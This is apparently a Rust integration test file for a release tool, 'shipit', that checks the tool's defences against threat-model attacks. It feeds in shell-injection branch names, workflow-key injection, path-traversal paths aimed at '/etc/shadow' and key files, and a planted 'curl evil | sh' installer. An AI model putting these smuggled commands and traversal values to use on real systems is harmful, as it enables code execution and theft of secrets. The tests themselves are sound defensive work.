//! The attacks of the threat model in SECURITY.md, one test (or more) per class, each named for
//! the attack it stops. Each drives the real binary with hostile input.

use std::path::Path;

use crate::common::{shipit, text};

/// A minimal Cargo project with `pipeline` as `shipit.toml`.
fn project(pipeline: &str) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    crate::common::tiny_crate(dir.path(), "1.2.3");
    std::fs::write(dir.path().join("shipit.toml"), pipeline).unwrap();
    dir
}

fn read(path: &Path) -> String {
    std::fs::read_to_string(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

// Class 1: shell injection through templates.

#[test]
fn branch_name_with_command_substitution_is_not_run() {
    let dir = project(
        "version = 1\n[stages.say]\nrun = [\"printf '%s|' {{ branch }} {{ env.PR_TITLE }} > said.txt\"]\n",
    );
    let out = shipit(dir.path())
        .arg("build")
        .env("GITHUB_HEAD_REF", "x$(touch pwned-branch);touch pwned-semi")
        .env("PR_TITLE", "`touch pwned-env` it's \"quoted\" \\ $HOME")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{:?}", text(&out));
    for file in ["pwned-branch", "pwned-semi", "pwned-env"] {
        assert!(
            !dir.path().join(file).exists(),
            "{file} was created: a value ran as code"
        );
    }
    assert_eq!(
        read(&dir.path().join("said.txt")),
        "x$(touch pwned-branch);touch pwned-semi|`touch pwned-env` it's \"quoted\" \\ $HOME|"
    );
}

/// A branch name that would run code in every shell context a `run` template can put it in.
const HOSTILE_BRANCH: &str =
    "x$(touch pwned-1)`touch pwned-2`\"'$(touch pwned-3)'\nEOT\ntouch pwned-4";

fn pwned(dir: &Path) -> Vec<String> {
    (1..=4)
        .map(|n| format!("pwned-{n}"))
        .filter(|f| dir.join(f).exists())
        .collect()
}

/// Regression (issue 28, 1): the formatter quoted a value for a bare word, so inside `"..."`, a
/// `sh -c '...'` script or an unquoted heredoc the quoting itself ran `$(...)` from a branch
/// name (seen creating `pwned-*` files before the fix). Each context is now refused, located.
#[test]
fn template_values_where_the_shell_parses_are_refused_at_their_place() {
    for (run, why) in [
        (
            "echo \"building {{ branch }}\" > said.txt",
            "inside double quotes",
        ),
        (
            "sh -c 'echo {{ branch }}' > said.txt",
            "inside single quotes",
        ),
        (
            "cat <<EOT > said.txt\n{{ branch }}\nEOT",
            "inside a heredoc",
        ),
        ("sh -c {{ branch }}", "script of a shell"),
        ("eval echo {{ branch }}", "given to `eval`"),
        ("echo `echo {{ branch }}`", "inside backticks"),
        (
            "echo {{ branch | safe }}\"{{ branch | e }}\"",
            "inside double quotes",
        ),
    ] {
        let dir = project(&format!("version = 1\n[stages.say]\nrun = ['''{run}''']\n"));
        for command in ["check", "build"] {
            let out = shipit(dir.path())
                .arg(command)
                .env("GITHUB_HEAD_REF", HOSTILE_BRANCH)
                .output()
                .unwrap();
            let (_, stderr) = text(&out);
            assert_eq!(out.status.code(), Some(2), "{run}: {stderr}");
            assert!(stderr.contains(why), "{run}: {stderr}");
            assert!(stderr.contains("[shipit.toml:"), "{run}: {stderr}");
            assert!(
                stderr.contains("{{ branch"),
                "{run}: the span shows the value: {stderr}"
            );
        }
        assert_eq!(pwned(dir.path()), Vec::<String>::new(), "{run}");
    }
}

/// The contexts where a value may stand hand it over as text, whatever it holds: bare words,
/// `$(...)`, arguments after a `sh -c` script, a quoted heredoc beside it; `| safe` is no way
/// around it (it once pasted the value as shell text).
#[test]
fn hostile_values_stay_text_in_every_context_a_command_allows() {
    let run = "printf '%s|' {{ branch }} v{{ branch }}x > said.txt\n\
               printf '%s|' \"$(printf %s {{ branch }})\" >> said.txt\n\
               sh -c 'printf \"%s|\" \"$1\"' sh {{ branch | safe }} >> said.txt\n\
               cat <<'EOT' >> said.txt\nEOT\nprintf '%s|' {{ branch | e }} >> said.txt";
    // `e` escapes for HTML, and that is all it does: the escaped text is still one argument.
    let dir = project(&format!("version = 1\n[stages.say]\nrun = ['''{run}''']\n"));
    let out = shipit(dir.path())
        .arg("build")
        .env("GITHUB_HEAD_REF", HOSTILE_BRANCH)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{:?}", text(&out));
    assert_eq!(pwned(dir.path()), Vec::<String>::new());
    let b = HOSTILE_BRANCH;
    assert_eq!(
        read(&dir.path().join("said.txt")),
        format!(
            "{b}|v{b}x|{b}|{b}|{}|",
            b.replace('"', "&quot;").replace('\'', "&#x27;")
        )
    );
}

// Class 11: interop with minisign's own keys.

/// A tiny host-only project that builds, packs, checksums and signs with `keys/ci.key`.
fn signed_tiny(extra: &str) -> tempfile::TempDir {
    project(&format!(
        "version = 1\n\n[stages.build]\nuses = \"cargo\"\nlocked = false\n\n\
         [stages.package]\nneeds = [\"build\"]\nuses = \"archive\"\n\n\
         [stages.checksum]\nneeds = [\"package\"]\nuses = \"checksum\"\n\n\
         [stages.sign]\nneeds = [\"checksum\"]\nuses = \"sign\"\n\
         key = {{ file = \"keys/ci.key\" }}\n{extra}"
    ))
}

fn build(dir: &Path) -> std::process::Output {
    shipit(dir)
        .arg("build")
        .env("CARGO_TARGET_DIR", dir.join("target"))
        .output()
        .unwrap()
}

#[test]
fn minisign_unencrypted_key_from_minisign_w_signs_a_release_minisign_verifies() {
    crate::common::require("minisign");
    let dir = signed_tiny("");
    std::fs::create_dir_all(dir.path().join("keys")).unwrap();
    let made = std::process::Command::new("minisign")
        .args(["-G", "-W", "-p", "keys/ci.pub", "-s", "keys/ci.key"])
        .current_dir(dir.path())
        .output()
        .unwrap();
    assert!(made.status.success(), "{:?}", text(&made));
    let out = build(dir.path());
    assert_eq!(out.status.code(), Some(0), "{:?}", text(&out));
    let check = std::process::Command::new("minisign")
        .args(["-V", "-p", "keys/ci.pub", "-m", "dist/SHA256SUMS"])
        .current_dir(dir.path())
        .output()
        .unwrap();
    assert!(check.status.success(), "{:?}", text(&check));
}

// Class 9: numbers and dates from the file and the environment.

/// `shipit check` on `pipeline`: its exit code and stderr.
fn check(pipeline: &str) -> (Option<i32>, String) {
    let dir = project(pipeline);
    let out = shipit(dir.path())
        .args(["check", "--color", "never"])
        .output()
        .unwrap();
    (out.status.code(), text(&out).1)
}

const DEPLOY: &str = "[deploy.prod]\nstrategy = \"canary\"\nimage = \"127.0.0.1:5000/tiny:{{ version }}\"\n\
     port = 8080\nrouter = { haproxy = \"tcp://127.0.0.1:9999\", backend = \"tiny\" }\n";

#[test]
fn retries_of_u32_max_are_refused_instead_of_wrapping_to_done() {
    let (code, err) = check("version = 1\n[stages.fail]\nrun = \"false\"\nretries = 4294967295\n");
    assert_eq!(code, Some(2), "{err}");
    assert!(
        err.contains("`retries` is 4294967295; it must be from 0 to 100"),
        "{err}"
    );
    assert!(err.contains("shipit.toml:4:11"), "{err}");
}

#[test]
fn huge_durations_and_numbers_are_config_errors_not_panics() {
    for (pipeline, needle) in [
        (
            "version = 1\n[stages.a]\nrun = \"true\"\ntimeout = \"99999999999h\"\n".to_string(),
            "`timeout` of stage `a`: `99999999999h` is not a duration (longer than the longest allowed",
        ),
        (
            format!("version = 1\n{DEPLOY}analysis = {{ interval = \"100000000000000s\" }}\n"),
            "`analysis.interval` of deploy environment `prod`: `100000000000000s` is not a duration",
        ),
        (
            format!("version = 1\n{DEPLOY}canary = {{ steps = [0, 4294967295] }}\n"),
            "is 4294967295; it must be from 1 to 100",
        ),
        (
            format!("version = 1\n{DEPLOY}analysis = {{ max_error_rate = 2.5 }}\n"),
            "it is a share from 0 to 1",
        ),
        (
            format!("version = 1\n{DEPLOY}replicas = 0\n"),
            "`replicas` is 0; it must be from 1 to 1000",
        ),
    ] {
        let (code, err) = check(&pipeline);
        assert_eq!(code, Some(2), "{pipeline}\n{err}");
        assert!(err.contains(needle), "{needle:?} not in:\n{err}");
        assert!(!err.contains("panicked"), "{err}");
    }
}

#[test]
fn empty_image_list_is_a_config_error_not_a_panic() {
    let (code, err) = check("version = 1\n[release.docker]\nimage = []\n");
    assert_eq!(code, Some(2), "{err}");
    assert!(err.contains("`image` lists no repository"), "{err}");
}

#[test]
fn source_date_epoch_invalid_or_past_year_9999_is_exit_2() {
    let dir = project("version = 1\n[stages.a]\nrun = \"true\"\n");
    for value in [
        "99999999999999",
        "18446744073709551616",
        "yesterday",
        "-1",
        "",
    ] {
        let out = shipit(dir.path())
            .args(["plan"])
            .env("SOURCE_DATE_EPOCH", value)
            .output()
            .unwrap();
        let (_, err) = text(&out);
        assert_eq!(out.status.code(), Some(2), "{value:?}: {err}");
        assert!(err.contains("SOURCE_DATE_EPOCH"), "{err}");
    }
    let out = shipit(dir.path())
        .args(["plan"])
        .env("SOURCE_DATE_EPOCH", "253402300799")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{:?}", text(&out));
}

// Class 2: names that reach Ruby, YAML, HAProxy or file names.

#[test]
fn names_with_newlines_or_separators_are_refused_by_check() {
    for (pipeline, needle) in [
        (
            "version = 1\n[project]\nname = \"demo\\nclass Evil\"\n".to_string(),
            "shipit.toml:3:8",
        ),
        (
            "version = 1\n[stages.build]\nuses = \"cargo\"\ntargets = [\"x86_64-unknown-linux-gnu\\n  evil: true\"]\n"
                .to_string(),
            "unknown target",
        ),
        (
            format!(
                "version = 1\n{}",
                DEPLOY.replace("backend = \"tiny\"", "backend = \"tiny;disable server x/y\"")
            ),
            "is not a valid name",
        ),
        (
            "version = 1\n[stages.\"../../escape\"]\nrun = \"true\"\n".to_string(),
            "is not a valid name",
        ),
    ] {
        let (code, err) = check(&pipeline);
        assert_eq!(code, Some(2), "{pipeline}\n{err}");
        assert!(err.contains(needle), "{needle:?} not in:\n{err}");
    }
}

#[test]
fn ci_github_cron_and_action_values_cannot_inject_workflow_keys() {
    let dir = project(
        "version = 1\n[stages.build]\nuses = \"cargo\"\nlocked = false\ntargets = [\"linux-x64-musl\"]\n",
    );
    let file = dir.path().join("release.yml");
    let out = shipit(dir.path())
        .args([
            "ci",
            "github",
            "--cron",
            "0 3 * * *\"\n    - evil: 1",
            "--action",
        ])
        .arg("acme/shipit@v1\n      with: {evil: true}")
        .arg("--output")
        .arg(&file)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{:?}", text(&out));
    let workflow = read(&file);
    assert!(
        workflow.contains(r#"- cron: "0 3 * * *\"\n    - evil: 1""#),
        "{workflow}"
    );
    assert!(
        workflow.contains(r#"uses: "acme/shipit@v1\n      with: {evil: true}""#),
        "{workflow}"
    );
    assert!(
        !workflow
            .lines()
            .any(|l| l.trim_start().starts_with("- evil")),
        "{workflow}"
    );
    crate::common::require("actionlint");
    let lint = std::process::Command::new("actionlint")
        .arg(&file)
        .output()
        .unwrap();
    // actionlint objects to the odd cron and action values, but the file must still parse.
    let (stdout, stderr) = text(&lint);
    assert!(
        !format!("{stdout}{stderr}").contains("could not parse"),
        "{stdout}{stderr}"
    );
}

// Class 3: paths that leave their root.

/// A tiny host-only project whose archive stage gets `archive_options`.
fn archive_project(archive_options: &str) -> tempfile::TempDir {
    project(&format!(
        "version = 1\n\n[stages.build]\nuses = \"cargo\"\nlocked = false\n\n\
         [stages.package]\nneeds = [\"build\"]\nuses = \"archive\"\n{archive_options}\n"
    ))
}

/// Every file below `dir`, except the build's own folders.
fn files_below(dir: &Path) -> Vec<String> {
    walkdir::WalkDir::new(dir)
        .into_iter()
        .filter_map(Result::ok)
        .map(|e| e.path().strip_prefix(dir).unwrap().display().to_string())
        .filter(|p| !p.starts_with("target") && !p.starts_with("dist") && !p.is_empty())
        .collect()
}

#[test]
fn archive_name_or_folder_with_dotdot_cannot_write_outside_dist() {
    for options in [
        "name = \"../../escaped\"",
        "name = \"/tmp/shipit-escaped-{{ target }}\"",
        "folder = \"../../x\"",
        "format = \"zip\"\nfolder = \"../../x\"",
    ] {
        let dir = archive_project(options);
        let before = files_below(dir.path());
        let out = build(dir.path());
        let (_, err) = text(&out);
        assert_eq!(out.status.code(), Some(2), "{options}: {err}");
        assert!(err.contains("not a safe relative path"), "{options}: {err}");
        assert_eq!(
            files_below(dir.path()),
            before,
            "{options} wrote outside dist"
        );
        assert!(
            !dir.path().join("dist").exists() || files_below(&dir.path().join("dist")).is_empty()
        );
    }
}

#[test]
fn files_from_outside_the_project_are_refused() {
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("secret.md"), "secret\n").unwrap();
    for options in [
        "files = [\"/etc/hostname\"]".to_string(),
        "files = [\"../*/secret.md\"]".to_string(),
        "files = [{ src = \"README*\", dst = \"../../README\" }]".to_string(),
    ] {
        let dir = archive_project(&options);
        std::fs::write(dir.path().join("README.md"), "readme\n").unwrap();
        let out = build(dir.path());
        assert_eq!(out.status.code(), Some(2), "{options}: {:?}", text(&out));
    }
    // A symlinked folder leading out is not followed.
    let dir = archive_project("files = [\"docs/*.md\"]");
    std::os::unix::fs::symlink(outside.path(), dir.path().join("docs")).unwrap();
    let out = build(dir.path());
    let (_, err) = text(&out);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("symbolic link"), "{err}");
}

#[test]
fn binary_format_for_several_targets_writes_each_output_whole() {
    // Archives are written under unique temporary names: two targets at once never share one.
    let dir = tempfile::tempdir().unwrap();
    let spec = |name: &str| shipit::archive::ArchiveSpec {
        format: shipit::archive::Format::Binary,
        output: dir.path().join(name),
        folder: None,
        binaries: vec![dir.path().join(format!("{name}.src"))],
        files: Vec::new(),
        base: dir.path().to_path_buf(),
        mtime: 0,
        level: 6,
    };
    let names = ["demo-1.2.3-linux-x64", "demo-1.2.3-linux-arm64"];
    for (i, name) in names.iter().enumerate() {
        std::fs::write(
            dir.path().join(format!("{name}.src")),
            vec![i as u8; 4 << 20],
        )
        .unwrap();
    }
    std::thread::scope(|s| {
        for name in names {
            let spec = spec(name);
            s.spawn(move || shipit::archive::write(&spec, 1).unwrap());
        }
    });
    for (i, name) in names.iter().enumerate() {
        assert_eq!(
            std::fs::read(dir.path().join(name)).unwrap(),
            vec![i as u8; 4 << 20]
        );
    }
}

// Classes 3 and 5: `verify` on a hostile folder.

/// A release folder signed by a `minisign -G -W` key: an archive, SHA256SUMS and its
/// signature; the public key in `keys/`, outside the folder.
fn signed_folder() -> tempfile::TempDir {
    crate::common::require("minisign");
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    std::fs::create_dir_all(root.join("dist")).unwrap();
    std::fs::create_dir_all(root.join("keys")).unwrap();
    let run = |args: &[&str]| {
        let out = std::process::Command::new(args[0])
            .args(&args[1..])
            .current_dir(root)
            .output()
            .unwrap();
        assert!(out.status.success(), "{args:?}: {:?}", text(&out));
        out
    };
    run(&[
        "minisign",
        "-G",
        "-W",
        "-p",
        "keys/k.pub",
        "-s",
        "keys/k.key",
    ]);
    std::fs::write(root.join("dist/app.tar.gz"), "release bytes\n").unwrap();
    sums(root);
    dir
}

/// (Re)writes dist/SHA256SUMS for dist/app.tar.gz and signs it with keys/k.key.
fn sums(root: &Path) {
    let out = std::process::Command::new("sha256sum")
        .arg("app.tar.gz")
        .current_dir(root.join("dist"))
        .output()
        .unwrap();
    std::fs::write(root.join("dist/SHA256SUMS"), &out.stdout).unwrap();
    let signed = std::process::Command::new("minisign")
        .args(["-S", "-s", "keys/k.key", "-m", "dist/SHA256SUMS"])
        .current_dir(root)
        .output()
        .unwrap();
    assert!(signed.status.success(), "{:?}", text(&signed));
}

/// Regression (issue 28, 6): a FIFO matched by an archive's `files` glob hung the package stage
/// (seen before the fix: still waiting for a writer after a minute). The walk's own lstat
/// refuses it, located, before anything opens it.
#[test]
fn a_fifo_matched_by_files_is_refused_instead_of_hanging_the_package_stage() {
    let dir = project(
        "version = 1\n\n[stages.build]\nuses = \"cargo\"\nlocked = false\n\n\
         [stages.package]\nneeds = [\"build\"]\nuses = \"archive\"\nfiles = [\"docs/*\"]\n",
    );
    std::fs::create_dir(dir.path().join("docs")).unwrap();
    std::fs::write(dir.path().join("docs/guide.txt"), "read me\n").unwrap();
    nix::unistd::mkfifo(
        &dir.path().join("docs/pipe"),
        nix::sys::stat::Mode::S_IRUSR | nix::sys::stat::Mode::S_IWUSR,
    )
    .unwrap();
    let mut command = shipit(dir.path());
    command
        .arg("build")
        .env("CARGO_TARGET_DIR", dir.path().join("target"));
    let out = crate::common::output_within(command, 60);
    let (stdout, stderr) = text(&out);
    // Found when the file is checked, before anything is built: a located error.
    assert_eq!(out.status.code(), Some(2), "{stdout}{stderr}");
    assert!(
        stderr.contains("which is not a regular file") && stderr.contains("shipit.toml:10:10"),
        "{stdout}{stderr}"
    );
}

fn verify(root: &Path, args: &[&str]) -> (Option<i32>, String) {
    let mut command = shipit(root);
    command.arg("verify").args(args);
    let out = crate::common::output_within(command, 60);
    let (stdout, stderr) = text(&out);
    (out.status.code(), format!("{stdout}{stderr}"))
}

#[test]
fn verify_never_reads_paths_a_checksum_line_points_outside_or_at_devices() {
    let dir = signed_folder();
    let root = dir.path();
    std::os::unix::fs::symlink("/dev/zero", root.join("dist/zero")).unwrap();
    nix::unistd::mkfifo(&root.join("dist/fifo"), nix::sys::stat::Mode::S_IRWXU).unwrap();
    let zeros = "0".repeat(64);
    let mut listing = std::fs::read_to_string(root.join("dist/SHA256SUMS")).unwrap();
    for name in [
        "/etc/shadow",
        "../keys/k.key",
        "sub/../../keys/k.pub",
        "/dev/zero",
        "zero",
        "fifo",
    ] {
        listing.push_str(&format!("{zeros}  {name}\n"));
    }
    std::fs::write(
        root.join("dist/EXTRA.SUMS"),
        listing.replace("app.tar.gz", "nothing"),
    )
    .unwrap();
    let (code, out) = verify(root, &["dist", "--key", "keys/k.pub"]);
    assert_eq!(code, Some(1), "{out}");
    for needle in [
        "FAILED checksum /etc/shadow",
        "it is absolute",
        "it climbs out with `..`",
        "FAILED checksum zero",
        "FAILED checksum fifo",
        "not a regular file",
    ] {
        assert!(out.contains(needle), "{needle:?} not in:\n{out}");
    }
    assert!(!out.contains("ok     checksum ../"), "{out}");
}

#[test]
fn verify_with_key_fails_a_tampered_release_whose_signature_was_deleted() {
    let dir = signed_folder();
    let root = dir.path();
    let (code, out) = verify(root, &["dist", "--key", "keys/k.pub"]);
    assert_eq!(code, Some(0), "{out}");
    // Tamper, regenerate SHA256SUMS, delete its signature.
    std::fs::write(root.join("dist/app.tar.gz"), "evil bytes\n").unwrap();
    sums(root);
    std::fs::remove_file(root.join("dist/SHA256SUMS.minisig")).unwrap();
    let (code, out) = verify(root, &["dist", "--key", "keys/k.pub"]);
    assert_eq!(code, Some(1), "{out}");
    assert!(out.contains("FAILED signature SHA256SUMS"), "{out}");
    assert!(out.contains("every checksum file must be signed"), "{out}");
}

#[test]
fn verify_without_key_reports_a_key_found_in_the_folder_as_integrity_only() {
    let dir = signed_folder();
    let root = dir.path();
    std::fs::copy(root.join("keys/k.pub"), root.join("dist/k.pub")).unwrap();
    let (code, out) = verify(root, &["dist"]);
    assert_eq!(code, Some(0), "{out}");
    assert!(out.contains("integrity only"), "{out}");
    assert!(out.contains("pass --key"), "{out}");
}

// Class 10: files.

#[test]
fn keygen_force_writes_a_new_private_file_instead_of_through_a_link_or_old_mode() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    std::fs::create_dir(root.join("keys")).unwrap();
    std::fs::write(root.join("keys/old.key"), "old\n").unwrap();
    std::fs::set_permissions(
        root.join("keys/old.key"),
        std::fs::Permissions::from_mode(0o644),
    )
    .unwrap();
    std::fs::write(root.join("victim"), "precious\n").unwrap();
    std::os::unix::fs::symlink("../victim", root.join("keys/linked.pub")).unwrap();
    let out = shipit(root)
        .args([
            "keygen",
            "--unencrypted",
            "--force",
            "--secret-key",
            "keys/old.key",
        ])
        .args(["--public-key", "keys/linked.pub"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{:?}", text(&out));
    let secret = std::fs::symlink_metadata(root.join("keys/old.key")).unwrap();
    assert_eq!(secret.permissions().mode() & 0o777, 0o600);
    assert!(read(&root.join("keys/old.key")).contains("secret key"));
    assert_eq!(
        read(&root.join("victim")),
        "precious\n",
        "wrote through the link"
    );
    assert!(
        std::fs::symlink_metadata(root.join("keys/linked.pub"))
            .unwrap()
            .is_file()
    );
    // Without --force, a dangling link is something that exists too.
    std::os::unix::fs::symlink("nowhere", root.join("keys/dangling.key")).unwrap();
    let out = shipit(root)
        .args([
            "keygen",
            "--unencrypted",
            "--secret-key",
            "keys/dangling.key",
        ])
        .args(["--public-key", "keys/new.pub"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2), "{:?}", text(&out));
}

#[test]
fn a_pipeline_file_that_is_a_fifo_is_refused_not_waited_on() {
    let dir = project("version = 1\n");
    let fifo = dir.path().join("pipe.toml");
    nix::unistd::mkfifo(&fifo, nix::sys::stat::Mode::S_IRWXU).unwrap();
    let mut command = shipit(dir.path());
    command.args(["check", "--pipeline", "pipe.toml"]);
    let out = crate::common::output_within(command, 60);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        text(&out).1.contains("not a regular file"),
        "{:?}",
        text(&out)
    );
}

#[test]
fn ten_thousand_stages_load_in_one_parse() {
    // The time is measured by scripts/bench-check; this checks such a file loads at all.
    let mut pipeline = String::from("version = 1\n");
    for i in 0..10_000 {
        pipeline.push_str(&format!("[stages.s{i}]\nrun = \"true\"\n"));
        if i > 0 {
            pipeline.push_str(&format!("needs = [\"s{}\"]\n", i - 1));
        }
    }
    let (code, err) = check(&pipeline);
    assert_eq!(code, Some(0), "{err}");
    assert!(err.contains("10000 stages"), "{err}");
}

// Class 8: secrets in output.

#[test]
fn secrets_named_by_the_pipeline_or_holding_quotes_are_masked_in_json_and_logs() {
    // `DEPLOY_PW` does not look like a secret by its name; the pipeline names it one.
    let dir = project(
        "version = 1\n[stages.leak]\nrun = [\"echo pw=$DEPLOY_PW q=$QUOTED_TOKEN; exit 1\"]\n\
         [release.docker]\nimage = \"127.0.0.1:5000/tiny\"\n\
         auth = { username = \"ci\", password_env = \"DEPLOY_PW\" }\n",
    );
    let quoted = r#"a"quoted\secret"#;
    let out = shipit(dir.path())
        .args(["build", "--json"])
        .env("DEPLOY_PW", "plain-named-secret")
        .env("QUOTED_TOKEN", quoted)
        .output()
        .unwrap();
    let (stdout, stderr) = text(&out);
    assert_eq!(out.status.code(), Some(1), "{stdout}{stderr}");
    let log = std::fs::read_to_string(dir.path().join("dist/logs/leak.log")).unwrap_or_default();
    for shown in [&stdout, &stderr, &log] {
        assert!(!shown.contains("plain-named-secret"), "{shown}");
        assert!(!shown.contains(r#"a\"quoted\\secret"#), "{shown}");
        assert!(!shown.contains(quoted), "{shown}");
    }
    assert!(
        stdout.contains("pw=***"),
        "the stage output was not reported: {stdout}"
    );
}

#[test]
fn a_panic_message_is_masked_and_exits_3() {
    let dir = project("version = 1\n");
    let out = shipit(dir.path())
        .arg("check")
        .env("RELEASE_TOKEN", "tok-123456789")
        .env("SHIPIT_DEBUG_PANIC", "boom tok-123456789")
        .output()
        .unwrap();
    let (_, stderr) = text(&out);
    assert_eq!(out.status.code(), Some(3), "{stderr}");
    assert!(stderr.contains("boom ***"), "{stderr}");
    assert!(!stderr.contains("tok-123456789"), "{stderr}");
}

// Class 4: `release --merge` and crafted parts.

/// A committed two-target project; `linux-x64` built as a split part into `parts/a`, and
/// `parts/b` made from it as the `linux-arm64` part (same bytes; merge does not run them).
fn split_parts() -> tempfile::TempDir {
    let dir = project(
        "version = 1\n\n[stages.build]\nuses = \"cargo\"\nlocked = false\n\
         targets = [\"linux-x64\", \"linux-arm64\"]\n\n\
         [stages.package]\nneeds = [\"build\"]\nuses = \"archive\"\n\n\
         [stages.checksum]\nneeds = [\"package\"]\nuses = \"checksum\"\n\n\
         [release.github]\nrepo = \"acme/tiny\"\n",
    );
    std::fs::write(dir.path().join(".gitignore"), "target/\ndist/\nparts/\n").unwrap();
    crate::common::git(dir.path(), &["init", "-q", "-b", "main"]);
    crate::common::git(dir.path(), &["add", "."]);
    crate::common::git(dir.path(), &["commit", "-qm", "first"]);
    let out = shipit(dir.path())
        .args(["build", "--split", "--targets", "linux-x64"])
        .env("CARGO_TARGET_DIR", dir.path().join("target"))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{:?}", text(&out));
    std::fs::create_dir(dir.path().join("parts")).unwrap();
    let a = dir.path().join("parts/a");
    std::fs::rename(dir.path().join("dist"), &a).unwrap();
    let b = dir.path().join("parts/b");
    for entry in walkdir::WalkDir::new(&a).into_iter().filter_map(Result::ok) {
        let rel = entry.path().strip_prefix(&a).unwrap().display().to_string();
        let to = b.join(rel.replace("linux-x64", "linux-arm64"));
        if entry.file_type().is_dir() {
            std::fs::create_dir_all(&to).unwrap();
        } else {
            std::fs::copy(entry.path(), &to).unwrap();
        }
    }
    let manifest = read(&b.join("manifest.json"))
        .replace("linux-x64", "linux-arm64")
        .replace("x86_64-unknown-linux-gnu", "aarch64-unknown-linux-gnu")
        .replace("\"arch\": \"x64\"", "\"arch\": \"arm64\"");
    std::fs::write(b.join("manifest.json"), manifest).unwrap();
    dir
}

/// Edits a part's manifest as JSON.
fn edit_manifest(part: &Path, edit: impl FnOnce(&mut serde_json::Value)) {
    let path = part.join("manifest.json");
    let mut value: serde_json::Value = serde_json::from_str(&read(&path)).unwrap();
    edit(&mut value);
    std::fs::write(&path, serde_json::to_string_pretty(&value).unwrap()).unwrap();
}

fn merge(dir: &Path) -> (Option<i32>, String) {
    let out = shipit(dir)
        .args(["release", "--merge", "parts/a", "parts/b"])
        .env("GITHUB_TOKEN", "unused-token")
        // Nothing listens there: a merge that got through would fail to publish, with exit 1.
        .env("GITHUB_API_URL", "http://127.0.0.1:9")
        .output()
        .unwrap();
    (out.status.code(), text(&out).1)
}

/// Nothing of the merge reached dist: no artifact, no staging folder.
fn assert_no_half_merge(dir: &Path) {
    let dist = dir.join("dist");
    let left: Vec<String> = walkdir::WalkDir::new(&dist)
        .into_iter()
        .filter_map(Result::ok)
        .filter(|e| e.file_type().is_file())
        .map(|e| e.path().display().to_string())
        .collect();
    assert!(left.is_empty(), "dist holds a half merge: {left:?}");
}

#[test]
fn merge_part_naming_a_path_outside_its_folder_is_refused_and_nothing_is_written() {
    let dir = split_parts();
    let victim = dir.path().join("victim.txt");
    std::fs::write(&victim, "precious\n").unwrap();
    edit_manifest(&dir.path().join("parts/b"), |m| {
        let artifacts = m["artifacts"].as_array_mut().unwrap();
        artifacts[0]["path"] = "../../victim.txt".into();
    });
    let (code, err) = merge(dir.path());
    assert_eq!(code, Some(2), "{err}");
    assert!(err.contains("climbs out"), "{err}");
    assert_eq!(read(&victim), "precious\n");
    assert_no_half_merge(dir.path());
}

#[test]
fn merge_part_adding_an_asset_or_a_target_it_was_not_asked_for_is_refused() {
    let dir = split_parts();
    let a = dir.path().join("parts/a");
    // An extra file, listed with its true hash.
    std::fs::write(a.join("install.sh"), "curl evil | sh\n").unwrap();
    edit_manifest(&a, |m| {
        let mut extra = m["artifacts"][0].clone();
        extra["path"] = "install.sh".into();
        extra["name"] = "install.sh".into();
        m["artifacts"].as_array_mut().unwrap().push(extra);
    });
    let (code, err) = merge(dir.path());
    assert_eq!(code, Some(2), "{err}");
    assert!(err.contains("does not expect"), "{err}");
    assert_no_half_merge(dir.path());

    // Part a brings part b's archive (the Homebrew formula would point at it).
    let dir = split_parts();
    let (a, b) = (dir.path().join("parts/a"), dir.path().join("parts/b"));
    let b_manifest: serde_json::Value =
        serde_json::from_str(&read(&b.join("manifest.json"))).unwrap();
    let archive = b_manifest["artifacts"]
        .as_array()
        .unwrap()
        .iter()
        .find(|x| x["kind"] == "archive")
        .unwrap()
        .clone();
    let name = archive["path"].as_str().unwrap().to_string();
    std::fs::copy(b.join(&name), a.join(&name)).unwrap();
    edit_manifest(&a, |m| m["artifacts"].as_array_mut().unwrap().push(archive));
    let (code, err) = merge(dir.path());
    assert_eq!(code, Some(2), "{err}");
    assert!(
        err.contains(&name) && err.contains("does not expect"),
        "{err}"
    );

    // A part claiming a target the pipeline does not build.
    let dir = split_parts();
    edit_manifest(&dir.path().join("parts/a"), |m| {
        m["split"] = serde_json::json!(["linux-x64", "darwin-arm64"]);
    });
    let (code, err) = merge(dir.path());
    assert_eq!(code, Some(2), "{err}");
    assert!(err.contains("does not build"), "{err}");
}

/// Regression (issue 28, 4): a part's manifest named its archive `install.sh` (uploaded as
/// `install.sh` with the part's bytes) or said a Linux archive was `darwin`/`arm64` (the
/// formula's macOS URL became it); both were merged as the part said (seen before the fix:
/// exit 1 at publishing, past the merge). What an artifact is comes from this machine's plan;
/// a part that disagrees is refused naming the field, and dist stays empty.
#[test]
fn merge_part_renaming_or_relabelling_an_artifact_is_refused_naming_the_field() {
    for (field, value) in [
        ("name", "install.sh"),
        ("os", "darwin"),
        ("arch", "amd64"),
        ("kind", "binary"),
        ("target", "linux-arm64"),
    ] {
        let dir = split_parts();
        edit_manifest(&dir.path().join("parts/a"), |m| {
            for artifact in m["artifacts"].as_array_mut().unwrap() {
                if artifact["kind"] == "archive" {
                    artifact[field] = value.into();
                }
            }
        });
        let (code, err) = merge(dir.path());
        assert_eq!(code, Some(2), "{field}: {err}");
        let said = format!("has {field} {value}, but this pipeline plans {field} ");
        assert!(err.contains(&said), "{field}: {err}");
        assert_no_half_merge(dir.path());
    }
}

/// Regression (issue 28, 8): `name = "manifest.json"` on an archive stage overwrote the build's
/// manifest with the archive (seen before the fix: the build passed and `manifest.json` was a
/// tar.gz). Names shipit writes itself are reserved, refused by `check`.
#[test]
fn an_artifact_named_like_the_manifest_or_inside_logs_is_refused() {
    for name in ["manifest.json", "logs"] {
        let dir = project(&format!(
            "version = 1\n\n[stages.build]\nuses = \"cargo\"\nlocked = false\n\n\
